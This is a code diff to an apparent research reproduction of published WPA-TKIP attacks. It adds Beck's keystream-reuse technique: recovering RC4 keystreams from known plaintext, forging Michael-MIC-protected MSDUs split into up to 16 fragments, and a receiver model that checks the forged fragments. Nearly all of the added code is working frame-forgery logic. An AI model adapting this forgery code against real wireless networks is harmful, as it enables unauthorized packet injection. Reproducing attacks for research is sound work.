@@ -23,12 +23,20 @@ from dataclasses import dataclass, field
 import numpy as np
 
 from ..errors import AttackError
+from ..rc4.reference import rc4_crypt
+from .crc import icv as compute_icv
 from .frames import TkipFrame
-from .packets import TcpPacketSpec, build_protected_msdu
+from .keymix import per_packet_key
+from .michael import michael, michael_header
+from .packets import ICV_LEN, MIC_LEN, TcpPacketSpec, build_protected_msdu
 from .session import TkipSession
 
 #: Packets/second the paper sustained in practice (§5.4).
 PAPER_INJECTION_RATE = 2500.0
+
+#: 802.11 allows an MSDU to be split into at most 16 MPDU fragments —
+#: the lever of Beck's keystream-reuse injection.
+MAX_FRAGMENTS = 16
 
 
 @dataclass
@@ -137,3 +145,198 @@ class InjectionCampaign:
     def wall_clock_seconds(self, num_packets: int) -> float:
         """Campaign duration at the configured injection rate."""
         return num_packets / self.rate_pps
+
+
+# ---------------------------------------------------------------------------
+# Beck's fragmentation-based keystream reuse (Enhanced TKIP Michael
+# Attacks, 2010) — what a recovered plaintext buys beyond the MIC key.
+# ---------------------------------------------------------------------------
+
+
+def recover_keystream(frame: TkipFrame, plaintext: bytes) -> bytes:
+    """XOR a known plaintext against a sniffed frame's ciphertext.
+
+    Once the §5 attack decrypts one packet, every further capture of the
+    *same* packet (the injection campaign retransmits it constantly)
+    hands the attacker the full RC4 keystream for that frame's TSC —
+    without ever touching the temporal key.
+    """
+    if len(plaintext) != len(frame.ciphertext):
+        raise AttackError(
+            f"plaintext length {len(plaintext)} != ciphertext length "
+            f"{len(frame.ciphertext)}"
+        )
+    return bytes(c ^ p for c, p in zip(frame.ciphertext, plaintext))
+
+
+@dataclass
+class KeystreamPool:
+    """Per-TSC keystreams harvested from known-plaintext captures.
+
+    Beck's enhanced attacks bank one keystream per observed TSC; each
+    entry lets the attacker encrypt one MPDU of up to
+    ``len(keystream) - ICV_LEN`` plaintext bytes at that TSC.  With up
+    to :data:`MAX_FRAGMENTS` fragments per MSDU, a pool of short
+    keystreams suffices to inject packets far longer than any single
+    recovered keystream.
+    """
+
+    streams: dict[int, bytes] = field(default_factory=dict)
+
+    def add(self, frame: TkipFrame, plaintext: bytes) -> None:
+        """Bank the keystream revealed by a known-plaintext frame."""
+        self.streams[frame.tsc] = recover_keystream(frame, plaintext)
+
+    def __len__(self) -> int:
+        return len(self.streams)
+
+    def capacity(self, *, max_fragments: int = MAX_FRAGMENTS) -> int:
+        """Longest data || MIC blob injectable with the current pool."""
+        payloads = sorted(
+            (len(ks) - ICV_LEN for ks in self.streams.values()), reverse=True
+        )
+        return sum(payloads[:max_fragments])
+
+    def take(self, count: int) -> list[tuple[int, bytes]]:
+        """The ``count`` longest (tsc, keystream) entries, longest first
+        (stable order: longer first, then ascending TSC)."""
+        entries = sorted(self.streams.items(), key=lambda kv: (-len(kv[1]), kv[0]))
+        if count > len(entries):
+            raise AttackError(
+                f"pool holds {len(entries)} keystreams, need {count}"
+            )
+        return entries[:count]
+
+
+@dataclass(frozen=True)
+class TkipFragment:
+    """One MPDU of a fragmented, keystream-reused injection.
+
+    Attributes:
+        frame: the encrypted fragment as it appears on the air.
+        index: 0-based fragment number.
+        more: the more-fragments flag (False only on the last MPDU).
+    """
+
+    frame: TkipFrame
+    index: int
+    more: bool
+
+
+def fragment_msdu(
+    msdu_data: bytes,
+    mic_key: bytes,
+    da: bytes,
+    sa: bytes,
+    pool: KeystreamPool,
+    *,
+    priority: int = 0,
+    max_fragments: int = MAX_FRAGMENTS,
+    ta: bytes | None = None,
+) -> list[TkipFragment]:
+    """Forge an arbitrary-length MSDU from short reused keystreams.
+
+    Per 802.11: the Michael MIC (computed here with the *recovered* MIC
+    key) covers the whole MSDU and travels in the last fragment; the
+    data || MIC blob is then split into MPDUs, each carrying its own
+    ICV and encrypted — here by XOR with a banked keystream instead of
+    a key the attacker does not know.  Fragments reuse their keystream's
+    recorded TSC; on the air Beck sends them on a QoS channel whose
+    replay counter is still below those values.
+
+    Args:
+        msdu_data: plaintext MSDU data (LLC/IP/TCP bytes) to inject.
+        mic_key: the recovered Michael key for this direction.
+        da, sa: destination/source MACs (Michael header inputs).
+        pool: harvested per-TSC keystreams.
+        priority: QoS priority (Michael header input / TID).
+        max_fragments: fragment budget (802.11 allows 16).
+        ta: transmitter address for the forged frames (default ``sa``).
+
+    Raises:
+        AttackError: if the pool cannot cover the MSDU within the
+            fragment budget.
+    """
+    if not 1 <= max_fragments <= MAX_FRAGMENTS:
+        raise AttackError(
+            f"max_fragments must be 1..{MAX_FRAGMENTS}, got {max_fragments}"
+        )
+    mic = michael(mic_key, michael_header(da, sa, priority) + msdu_data)
+    protected = msdu_data + mic
+    if pool.capacity(max_fragments=max_fragments) < len(protected):
+        raise AttackError(
+            f"keystream pool covers {pool.capacity(max_fragments=max_fragments)} "
+            f"bytes across {max_fragments} fragments, need {len(protected)}"
+        )
+    ta = sa if ta is None else ta
+    fragments: list[TkipFragment] = []
+    offset = 0
+    for tsc, keystream in pool.take(min(max_fragments, len(pool.streams))):
+        if offset >= len(protected):
+            break
+        chunk = protected[offset : offset + len(keystream) - ICV_LEN]
+        offset += len(chunk)
+        plaintext = chunk + compute_icv(chunk)
+        ciphertext = bytes(
+            p ^ k for p, k in zip(plaintext, keystream)
+        )
+        fragments.append(
+            TkipFragment(
+                frame=TkipFrame(
+                    ta=ta,
+                    da=da,
+                    sa=sa,
+                    tsc=tsc,
+                    ciphertext=ciphertext,
+                    priority=priority,
+                ),
+                index=len(fragments),
+                more=True,  # fixed up below
+            )
+        )
+    fragments[-1] = TkipFragment(
+        frame=fragments[-1].frame, index=fragments[-1].index, more=False
+    )
+    return fragments
+
+
+def reassemble_fragments(tk: bytes, fragments: list[TkipFragment]) -> bytes:
+    """Receiver model: decrypt, ICV-check, and reassemble an MSDU.
+
+    Each MPDU is decrypted with the genuine per-packet key (the receiver
+    holds the temporal key), its trailing ICV verified, and the payloads
+    concatenated in fragment order.  Replay is per QoS TID in a WMM
+    receiver, which is exactly why Beck's reused TSC values are accepted
+    — the attacker picks a TID whose counter is still below them; this
+    model therefore checks fragment ordering and flags, not the
+    transmitter's original channel counter.
+
+    Returns:
+        The reassembled MSDU data || MIC blob; the caller verifies the
+        MIC (:func:`repro.tkip.michael.michael`) against the addresses.
+
+    Raises:
+        AttackError: on misnumbered fragments, bad flags, or ICV failure.
+    """
+    if not fragments:
+        raise AttackError("no fragments to reassemble")
+    protected = bytearray()
+    for position, fragment in enumerate(fragments):
+        if fragment.index != position:
+            raise AttackError(
+                f"fragment {position} carries index {fragment.index}"
+            )
+        if fragment.more != (position < len(fragments) - 1):
+            raise AttackError("more-fragments flag inconsistent with position")
+        frame = fragment.frame
+        key = per_packet_key(frame.ta, tk, frame.tsc)
+        plaintext = rc4_crypt(key, frame.ciphertext)
+        if len(plaintext) < ICV_LEN + 1:
+            raise AttackError("fragment too short for payload + ICV")
+        chunk, icv_bytes = plaintext[:-ICV_LEN], plaintext[-ICV_LEN:]
+        if compute_icv(chunk) != icv_bytes:
+            raise AttackError(f"fragment {position} failed the ICV check")
+        protected.extend(chunk)
+    if len(protected) < MIC_LEN + 1:
+        raise AttackError("reassembled MSDU shorter than a MIC")
+    return bytes(protected)
